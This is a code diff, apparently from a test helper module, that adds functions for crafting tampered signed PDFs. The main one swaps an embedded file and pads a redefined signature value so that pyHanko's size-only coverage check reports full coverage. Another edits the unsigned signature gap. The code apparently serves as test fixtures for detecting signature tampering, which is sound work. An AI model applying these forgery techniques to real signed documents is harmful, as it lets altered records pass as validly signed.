@@ -150,3 +150,63 @@ def pdf_embedded_file_swapped_in_update(pdf: bytes, replacement: bytes) -> bytes
 def pdf_appended_junk(pdf: bytes) -> bytes:
     """Bytes appended after the final %%EOF."""
     return pdf + b"\n% appended after signing\n"
+
+
+def _literal_bytes(data: bytes) -> Any:
+    """A PDF string written as a literal ``( ... )`` of raw bytes: fewer bytes on disk than hex."""
+    from pyhanko.pdf_utils import generic
+
+    class LiteralBytes(generic.ByteStringObject):
+        def write_to_stream(self, stream: Any, handler: Any = None, container_ref: Any = None) -> None:
+            raw = bytes(self)
+            escaped = raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
+            stream.write(b"(" + escaped.replace(b"\r", b"\\r") + b")")
+
+    return LiteralBytes(data)
+
+
+def pdf_coverage_spoof(pdf: bytes, replacement: bytes) -> bytes:
+    """The embedded dossier.json swapped in an update, then the signature dictionary redefined so that
+    pyHanko's size-only coverage test reads "entire file".
+
+    A second update redefines the signature dictionary with the same ByteRange
+    (the original signed bytes, so the digest still matches) and ``/Contents`` as
+    a literal string: the original CMS padded with NUL bytes to the length L at
+    which file size == len1 + len2 + 2L + 2. Written raw, a literal costs about
+    one byte per byte, a hex string two, which is what lets the equation hold.
+    """
+    from asn1crypto import cms
+    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
+    from pyhanko.pdf_utils.reader import PdfFileReader
+
+    swapped = pdf_embedded_file_swapped_in_update(pdf, replacement)
+    embedded = PdfFileReader(io.BytesIO(pdf)).embedded_signatures[0]
+    der = cms.ContentInfo.load(embedded.pkcs7_content).dump()
+    _, len1, _start2, len2 = embedded.byte_range
+    length = len(der) + 1
+    for _ in range(20):
+        writer = IncrementalPdfFileWriter(io.BytesIO(swapped))
+        field = writer.root["/AcroForm"]["/Fields"][0].get_object()
+        ref = field.raw_get("/V")
+        sig = ref.get_object()
+        sig["/Contents"] = _literal_bytes(der + b"\0" * (length - len(der)))
+        writer.mark_update(ref)
+        out = io.BytesIO()
+        writer.write(out)
+        data = out.getvalue()
+        off = len(data) - (len1 + len2 + 2 * length + 2)
+        if off == 0:
+            return data
+        length += off
+    raise AssertionError("the coverage spoof did not converge")
+
+
+def pdf_gap_edited(pdf: bytes) -> bytes:
+    """An extra key written into the unsigned gap, in place of the signature value's zero padding."""
+    from pyhanko.pdf_utils.reader import PdfFileReader
+
+    _, len1, start2, _ = PdfFileReader(io.BytesIO(pdf)).embedded_signatures[0].byte_range
+    gap = pdf[len1:start2]
+    assert gap.endswith(b"0000000000>")
+    edited = gap[:-11] + b"00>/Ab<000>"
+    return pdf[:len1] + edited + pdf[start2:]
